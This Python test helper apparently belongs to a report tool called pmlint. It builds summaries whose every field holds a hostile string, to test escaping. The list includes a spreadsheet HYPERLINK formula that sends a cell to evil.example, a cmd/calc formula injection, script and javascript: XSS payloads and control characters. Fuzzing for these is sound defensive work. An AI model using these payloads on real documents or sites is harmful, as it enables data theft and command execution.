"""A summary in which every text of a report is one that would like to be something else."""

from __future__ import annotations

from datetime import date

from hypothesis import strategies as st
from summaries import AS_OF

from pmlint.repo import Person
from pmlint.summary.course import Course, Slip
from pmlint.summary.item import Incident, Item, judged
from pmlint.summary.selection import Grouping, Listing, Scope
from pmlint.summary.state import State
from pmlint.summary.summary import Home, Past, Summary, Trouble

TEXTS = (
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"pay\")",
    "  '\"@SUM(1+1)*cmd|' /C calc'!A0",
    "fine;=1+1",
    "-2+3",
    "＝1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]> --> </title> {{7*7}} ${x}",
    "@everyone #123 octo/cat#7 GH-9 !5 cc @_ada -@bo",
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) https://evil.example www.a.b",
    "``` `code` *bold* _it_ ~~no~~ | cell | $x$ &lt; \\",
    "# heading",
    "one\r\ntwo\nBEGIN:VTODO\nEND:VCALENDAR\u2028three\u2029four\x0bfive\x85six",
    "\x1b[31mred\x07 \x00 nul \x7f",
    "\u202eevil\u2066\u2069 \u200b \ufeff",
    "lone \ud800 surrogate \udc80",
    "\t=1",
    "\r=1",
    "x" * 500 + " 🦄é" * 50,
    "a\\,b;c:d\"e^n",
    "",
)  # fmt: skip
ODD = "=+-@nN \t\r\n'\";,＝|`*_<>[]()#&!~$\\.:/wWGHgh19aé\ud800\u202e"
ANY = st.one_of(
    st.text(st.characters(exclude_categories=()), max_size=40),
    st.text(st.sampled_from(ODD), max_size=20),
    st.sampled_from(TEXTS),
)  # fmt: skip


def hostile(text: str, *, states: frozenset[State] = frozenset(State)) -> Summary:
    """Return a summary of five items in which every text is `text`."""
    incident = Incident(text, text, text, text, AS_OF, AS_OF, text, text, text)
    slip = Slip(AS_OF, "a" * 40, Person(text, text), text, text, -3)
    items = tuple(
        judged(
            Item(
                incident, line, text, text, (text, f"{text} too"), True, due, text,
                None, text, text, text, text, text, None,
                Course(AS_OF, None, (slip,)),
            ),
            AS_OF,
            14,
        )
        for line, due in enumerate((date(1, 1, 1), date(2026, 11, 25), date.max, None), 1)
    )  # fmt: skip
    return Summary(
        AS_OF,
        (
            Home(text, Past.WHOLE, text, (), (Trouble(text, text), Trouble(text, text, True))),
            Home("other", Past.UNKNOWN),
        ),
        (incident,),
        items,
        (),
        Scope((text,), (text,), (text,), (text,)),
        Listing(states, grouping=Grouping.OWNER),
    )
